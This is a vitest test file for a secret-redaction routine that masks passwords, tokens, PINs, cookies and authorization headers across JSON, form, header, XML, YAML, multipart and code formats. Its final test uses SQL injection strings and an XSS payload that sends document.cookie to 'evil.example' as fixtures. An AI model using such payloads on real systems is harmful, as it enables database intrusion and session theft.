import { describe, expect, it } from 'vitest';
import { namedSecrets } from './named-secrets.js';
import { createSecretNames } from './secret-names.js';
import { replaceSpans } from './span.js';

function redacted(text: string): string {
  return replaceSpans(text, namedSecrets(text, createSecretNames()), '#');
}

describe('namedSecrets', () => {
  it('finds values in JSON, at any depth and of any type', () => {
    expect(redacted('{"user":"a","password":"hunter2","q":"x"}')).toBe('{"user":"a","password":"#","q":"x"}');
    expect(redacted('{"a":{"b":[{"apiKey" : "x y"}]}}')).toBe('{"a":{"b":[{"apiKey" : "#"}]}}');
    expect(redacted('{"pin":1234,"ok":true}')).toBe('{"pin":#,"ok":true}');
    expect(redacted('{"tokens":["a","b]"],"z":1}')).toMatch(/^\{"tokens":#/);
    expect(redacted('{"secret":{"a":{"b":1}},"q":"x"}')).toBe('{"secret":#,"q":"x"}');
    expect(redacted('{"password":"a\\"b\\\\","q":"x"}')).toBe('{"password":"#","q":"x"}');
  });

  it('finds values in JSON within a JSON string', () => {
    const inner = JSON.stringify({ password: 'hun"ter2', q: 'x' });
    expect(redacted(JSON.stringify({ body: inner }))).toBe(
      JSON.stringify({ body: JSON.stringify({ password: '#', q: 'x' }) }),
    );
    const deeper = JSON.stringify(JSON.stringify({ body: inner }));
    expect(redacted(deeper)).not.toContain('hun');
    expect(redacted(deeper)).not.toContain('ter2');
  });

  it('finds values in forms, queries, cookies and headers', () => {
    expect(redacted('a=1&password=hun,ter(2)&q=x')).toBe('a=1&password=#&q=x');
    expect(redacted('user[password]=hunter2&user[pin][]=1234')).toBe('user[password]=#&user[pin][]=#');
    expect(redacted('user%5Bpin%5D=12%0934&user%5botp%5d%5B%5D=1&user%5Bpin%5D%5Ba%5D=2&q=x')).toBe(
      'user%5Bpin%5D=#&user%5botp%5d%5B%5D=#&user%5Bpin%5D%5Ba%5D=#&q=x',
    );
    expect(redacted('/reset?token=abc#top')).toBe('/reset?token=#');
    expect(redacted('theme=dark; sessionid=abc; x=y')).toBe('theme=dark; sessionid=#; x=y');
    expect(redacted('/a;jsessionid=abc;v=1')).toBe('/a;jsessionid=#;v=1');
    expect(redacted('authorization: Custom a b c\r\nhost: x')).toBe('authorization: #\r\nhost: x');
  });

  it('finds values in XML, YAML, multipart and code', () => {
    expect(redacted('<login><password>hun ter2</password><q>x</q></login>')).toBe(
      '<login><password>#</password><q>x</q></login>',
    );
    expect(redacted('<ns:pin type="n">1234</ns:pin>')).toBe('<ns:pin type="n">#</ns:pin>');
    expect(redacted('<user password="hunter2" q="x"/>')).toBe('<user password="#" q="x"/>');
    expect(redacted('user: a\npassword: hunter2\nq: x')).toBe('user: a\npassword: #\nq: x');
    expect(redacted('mutation { login(user: "a", password: "hunter2") { id } }')).toBe(
      'mutation { login(user: "a", password: "#") { id } }',
    );
    expect(redacted("{ 'secret' => 'hunter2', q => 1 }")).toBe("{ 'secret' => '#', q => 1 }");
    expect(
      redacted(
        '--b\r\nContent-Disposition: form-data; name="password"\r\n\r\nhunter2\r\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\nx\r\n--b--',
      ),
    ).toBe(
      '--b\r\nContent-Disposition: form-data; name="password"\r\n\r\n#\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\nx\r\n--b--',
    );
    expect(redacted('name="token"; filename="a"\r\nContent-Type: text/plain\r\n\r\nhunter2')).toBe(
      'name="token"; filename="a"\r\nContent-Type: text/plain\r\n\r\n#',
    );
  });

  it('finds values whose text was cut', () => {
    expect(redacted('{"password":"hunter2 and mo')).toBe('{"password":"#');
    expect(redacted('password=hunter2 a')).toBe('password=# a');
  });

  it('changes nothing that is redacted already', () => {
    for (const text of ['{"password":"[redacted]"}', 'password=[redacted]&a=1', 'pin: [redacted]']) {
      expect(replaceSpans(text, namedSecrets(text, createSecretNames()), '[redacted]')).toBe(text);
    }
  });

  it('leaves attacks readable beside a secret, and harmless texts whole', () => {
    expect(redacted('{"pin":1234,"q":"\' OR 1=1--"}')).toBe('{"pin":#,"q":"\' OR 1=1--"}');
    expect(redacted("x' UNION SELECT name, password FROM users WHERE password='a' OR 'a'='a")).toBe(
      "x' UNION SELECT name, password FROM users WHERE password='#' OR 'a'='a",
    );
    expect(redacted("<script>fetch('//evil.example?token='+document.cookie)</script>")).toContain('</script>');
    for (const text of [
      'shipping=1&compass=n',
      '{"passenger":"A","opinion":"B","keyboard":1}',
      'pin the note, pass the salt, session at 9',
      'pin://host',
      'a=1',
      '',
    ]) {
      expect(redacted(text)).toBe(text);
    }
  });
});
